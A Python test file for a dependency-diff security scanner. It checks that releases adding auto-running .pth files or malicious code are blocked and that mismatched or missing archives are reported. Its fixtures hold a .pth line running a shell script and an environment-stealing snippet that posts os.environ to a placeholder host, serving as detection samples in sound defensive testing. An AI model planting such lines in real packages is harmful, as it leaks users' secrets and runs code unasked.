"""Archives at hand: the added is inspected, the replaced compared, and what is not the locked file is refused."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

from depscan.checks.changes import NEW_SURFACE
from depscan.difference import Difference
from depscan.errors import UsageError
from tests.unit.difference.projects import NOW, Project, lock, rules
from tests.unit.release.releases import CODE, save, sdist_bytes, wheel_bytes

PTH = "import os; os.system('sh /tmp/x.invalid')\n"
THIEF = (
    "import os, urllib.request\n"
    "urllib.request.urlopen('https://collect.invalid/x', data=repr(dict(os.environ)).encode())\n"
)
GOOD = {"demo/__init__.py": CODE}


class House:
    """A wheelhouse, and the lock entries that go with its archives."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder / "house"
        self.folder.mkdir()

    def add(self, data: bytes, version: str, *, suffix: str = "-py3-none-any.whl", digest: str = "") -> str:
        name = f"demo-{version}{suffix}"
        save(self.folder, name, data)
        digest = digest or hashlib.sha256(data).hexdigest()
        return f'{{ url = "https://files.example/{name}", hash = "sha256:{digest}", upload-time = "{NOW}" }}'

    def wheel(self, files: dict[str, str], version: str, *, digest: str = "") -> str:
        return entry(version, wheel=self.add(wheel_bytes(files, version), version, digest=digest))


def entry(version: str, *, wheel: str = "", sdist: str = "") -> str:
    text = (
        f'[[package]]\nname = "demo"\nversion = "{version}"\nsource = {{ registry = "https://index.example/simple" }}\n'
    )
    return text + (f"wheels = [{wheel}]\n" if wheel else "") + (f"sdist = {sdist}\n" if sdist else "")


@pytest.fixture
def house(tmp_path: Path) -> House:
    return House(tmp_path)


def run(project: Project, house: House) -> Difference:
    return project.diff(archives=[str(house.folder)])


def test_a_quiet_upgrade_is_compared_and_passes(project: Project, house: House) -> None:
    project.locks(lock(house.wheel(GOOD, "1.0")), lock(house.wheel(GOOD, "1.1")))
    found = run(project, house)
    assert (found.result.exit_code, rules(found)) == (0, {})
    [[diff]] = found.releases.values()
    assert (diff.versions, diff.worse) == (("1.0", "1.1"), False)


def test_a_start_line_that_a_release_adds_blocks(project: Project, house: House) -> None:
    project.locks(lock(house.wheel(GOOD, "1.0")), lock(house.wheel({**GOOD, "demo.pth": PTH}, "1.1")))
    found = run(project, house)
    assert found.result.exit_code == 1
    assert rules(found)[NEW_SURFACE.id] == "block"
    [made] = [f for f in found.result.findings if f.rule == NEW_SURFACE.id]
    assert made.subject == "pkg:pypi/demo@1.1"
    assert made.primary.path == "demo.pth"


def test_what_both_releases_do_is_not_of_the_change(project: Project, house: House) -> None:
    files = {**GOOD, "demo.pth": PTH}
    project.locks(lock(house.wheel(files, "1.0")), lock(house.wheel(files, "1.1")))
    found = run(project, house)
    assert (found.result.exit_code, rules(found)) == (0, {})
    assert found.known > 0


def test_an_added_package_is_inspected(project: Project, house: House) -> None:
    project.locks(lock(), lock(house.wheel({"demo/__init__.py": THIEF}, "1.0")))
    found = run(project, house)
    assert found.result.exit_code == 1
    assert "malicious" in {f.klass for f in found.result.findings}


def test_a_payload_in_the_sdist_only_is_found(project: Project, house: House) -> None:
    def release(version: str, setup: str) -> str:
        sdist = house.add(sdist_bytes({"setup.py": setup, **GOOD}, version), version, suffix=".tar.gz")
        return entry(version, wheel=house.add(wheel_bytes(GOOD, version), version), sdist=sdist)

    plain = "from setuptools import setup\nsetup(name='demo')\n"
    project.locks(lock(release("1.0", plain)), lock(release("1.1", plain)))
    assert run(project, house).result.exit_code == 0
    project.locks(lock(release("1.0", plain)), lock(release("1.1", plain + THIEF)))
    assert run(project, house).result.exit_code == 1


def test_an_archive_that_is_not_the_locked_one_makes_it_incomplete(project: Project, house: House) -> None:
    project.locks(lock(house.wheel(GOOD, "1.0")), lock(house.wheel(GOOD, "1.1", digest="0" * 64)))
    found = run(project, house)
    assert found.result.exit_code == 4
    assert any("does not have the hash" in c.why for c in found.result.coverage)


def test_a_broken_archive_makes_it_incomplete(project: Project, house: House) -> None:
    wheel = house.add(b"PK\x03\x04 no archive", "1.1")
    project.locks(lock(house.wheel(GOOD, "1.0")), lock(entry("1.1", wheel=wheel)))
    assert run(project, house).result.exit_code == 4


def test_what_is_not_at_hand_is_said(project: Project, house: House) -> None:
    project.locks(lock(entry("1.0")), lock(entry("1.1")))
    found = run(project, house)
    assert any("no archive of demo 1.1 is at hand" in c.why for c in found.result.coverage)
    project.locks(lock(entry("1.0")), lock(house.wheel(GOOD, "1.1")))
    assert any("1.1 was compared with nothing" in c.why for c in run(project, house).result.coverage)


def test_a_young_fix_that_adds_nothing_passes_and_one_that_does_is_held(project: Project, house: House) -> None:
    from tests.unit.intel.records import fixed, introduced, made, record

    made(project.folder / "db", [record("PYSEC-9", "demo", introduced(), fixed("1.1"))])
    project.policy('fail-on = ["trust"]\n[cooldown]\ndays = 7\n')
    project.locks(lock(house.wheel(GOOD, "1.0")), lock(house.wheel(GOOD, "1.1")))
    found = run(project, house)
    assert (found.result.exit_code, rules(found)) == (0, {})
    assert any("adds nothing that runs by itself" in c.why for c in found.result.coverage)
    project.locks(lock(house.wheel(GOOD, "1.0")), lock(house.wheel({**GOOD, "demo.pth": PTH}, "1.1")))
    found = run(project, house)
    assert rules(found)["trust/cooldown"] == "block"
    assert any("adds something that runs by itself" in f.message for f in found.result.findings)


def test_a_new_requirement_that_runs_something_makes_the_release_that_needs_it_worse(
    project: Project, house: House
) -> None:
    needs = house.add(wheel_bytes(GOOD, "1.1", metadata="Requires-Dist: other\n"), "1.1")
    data = wheel_bytes({"other.pth": PTH}, "3", name="other")
    save(house.folder, "other-3-py3-none-any.whl", data)
    other = (
        '[[package]]\nname = "other"\nversion = "3"\nsource = { registry = "https://index.example/simple" }\n'
        'wheels = [{ url = "https://files.example/other-3-py3-none-any.whl", upload-time = "2026-03-14T00:00:00Z" }]\n'
    )
    project.locks(lock(house.wheel(GOOD, "1.0")), lock(entry("1.1", wheel=needs), other))
    found = run(project, house)
    [[diff]] = found.releases.values()
    [new] = diff.new_requirements
    assert (new.requirement.name, new.age_days, new.read) == ("other", 1, "other-3-py3-none-any.whl")
    assert [f.subject for f in found.result.findings if f.rule == NEW_SURFACE.id] == ["pkg:pypi/demo@1.1"]


def test_an_archive_of_something_else_makes_it_incomplete(project: Project, house: House) -> None:
    wheel = house.add(wheel_bytes(GOOD, "9.9"), "1.1")
    project.locks(lock(house.wheel(GOOD, "1.0")), lock(entry("1.1", wheel=wheel)))
    found = run(project, house)
    assert found.result.exit_code == 4
    assert any("says that it is demo 9.9" in c.why for c in found.result.coverage)


def test_workers_read_the_same(project: Project, house: House) -> None:
    project.locks(lock(house.wheel(GOOD, "1.0")), lock(house.wheel({**GOOD, "demo.pth": PTH}, "1.1")))
    alone, many = run(project, house), project.diff(archives=[str(house.folder)], jobs=2)
    assert alone.result.findings == many.result.findings


def test_a_folder_of_archives_has_to_be_one(project: Project) -> None:
    with pytest.raises(UsageError, match="cannot look for archives"):
        project.diff(archives=[str(project.folder / "nowhere")])
